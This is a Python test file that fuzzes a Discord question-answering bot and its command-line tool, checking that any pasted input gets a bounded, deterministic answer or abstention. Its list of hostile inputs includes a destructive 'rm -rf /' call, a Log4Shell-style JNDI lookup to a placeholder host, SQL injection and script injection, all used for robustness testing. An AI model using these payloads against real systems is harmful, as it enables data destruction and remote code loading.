"""Anything pasted into a question: never an exception, always an answer or an abstention in
bounded time, deterministic, and rendered within Discord's limits."""

from __future__ import annotations

import json

from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot import render
from index.engine import MAX_QUESTION_CHARS, Engine
from tests.conftest import cli

NASTY = [
    "",
    " ",
    "\t\n\r",
    "\x00why did BlackBerry stay?\x00",
    "why did \u202eyats yrreBkcalB\u202c stay?",  # right-to-left override
    "B" + "\u0301" * 5000 + "ES?",  # combining-mark flood
    "🫐🍇📱 why did BlackBerry stay? 🇵🇰🇨🇦",
    "```python\nimport os; os.system('rm -rf /')\n```",
    "**bold** __underline__ ~~strike~~ ||spoiler|| > quote [link](https://evil.example)",
    "@everyone @here <@&123456> <@!42> <#99> why did BlackBerry stay?",
    "{{7*7}} ${jndi:ldap://evil.example/a} '; DROP TABLE articles; -- <script>alert(1)</script>",
    "%s %d %n {0} {question}",
    "\ud800".encode("utf-16", "surrogatepass").decode("utf-16", "replace"),
    "why " * 25_000,  # 100,000 characters
    "a" * 100_000,
    "\u200b" * 1000 + "BES",
    "ﬁ ﬂ Ⅻ ① ＢＥＳ",  # compatibility characters
]

questions = st.one_of(
    st.text(max_size=300),
    st.text(alphabet=st.characters(codec="utf-8"), max_size=2000),
    st.sampled_from(NASTY),
    st.builds(
        lambda a, b: a + " why did BlackBerry stay? " + b,
        st.text(max_size=50),
        st.text(max_size=50),
    ),
)


def _check(engine: Engine, question: str) -> None:
    answer = engine.ask(question)
    assert len(answer.question) <= MAX_QUESTION_CHARS
    assert answer.answered == bool(answer.citations)
    assert answer.answered or answer.reason
    for c in answer.citations:
        assert c.highlight and c.highlight in c.paragraph.text
    reply = render.answer_reply(answer) if answer.answered else render.abstention_reply(answer)
    assert render.violations(reply) == []
    if answer.answered:
        for start in range(1, len(answer.citations)):
            assert render.violations(render.more_results_reply(answer, start)) == []
    assert engine.ask(question).to_dict() == answer.to_dict()  # deterministic
    json.dumps(answer.to_dict(), ensure_ascii=False)  # serialisable


# No deadline: speed is measured in benchmarks, not asserted by a clock in a test (a loaded
# machine made the 2 s deadline fail on a 3 s example that passed when run again).
@settings(
    max_examples=300, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(question=questions)
def test_any_question_answers_or_abstains_within_limits(engine: Engine, question: str) -> None:
    _check(engine, question)


def test_the_named_nasty_inputs(engine: Engine) -> None:
    for question in NASTY:
        _check(engine, question)


def test_mentions_in_a_question_are_not_words(engine: Engine) -> None:
    plain = engine.ask("why did BlackBerry stay?")
    noisy = engine.ask("@everyone <@&123456> <@!42> why did **BlackBerry** stay? @here")
    assert [c.paragraph.key for c in noisy.citations] == [c.paragraph.key for c in plain.citations]


def test_cli_streams_one_json_line_per_hostile_line() -> None:
    lines = [q.replace("\n", " ").replace("\r", " ") for q in NASTY]
    lines = [line for line in lines if "\x00" not in line] + ["nul \x00 inside"]
    result = cli("ask", "--json", "-", stdin="\n".join(lines) + "\n")
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr
    out = result.stdout.splitlines()
    assert len(out) == len(lines)
    for line, question in zip(out, lines, strict=True):
        answer = json.loads(line)
        assert answer["question"] == question[:MAX_QUESTION_CHARS]


def test_cli_stdin_bytes_that_are_not_utf8_or_split_oddly() -> None:
    raw = (
        b"why did BlackBerry stay?\n\xff\xfe bad bytes BES\nstray \r return\n"
        b"sep \xe2\x80\xa8 line\r\nlast"
    )
    result = cli("ask", "--json", "-", stdin=raw)
    assert result.returncode == 0, result.stderr
    out = result.stdout.decode("utf-8").split("\n")
    assert out[-1] == ""
    questions = [json.loads(line)["question"] for line in out[:-1]]
    assert questions == [
        "why did BlackBerry stay?",
        "\ufffd\ufffd bad bytes BES",
        "stray \r return",
        "sep \u2028 line",
        "last",
    ]
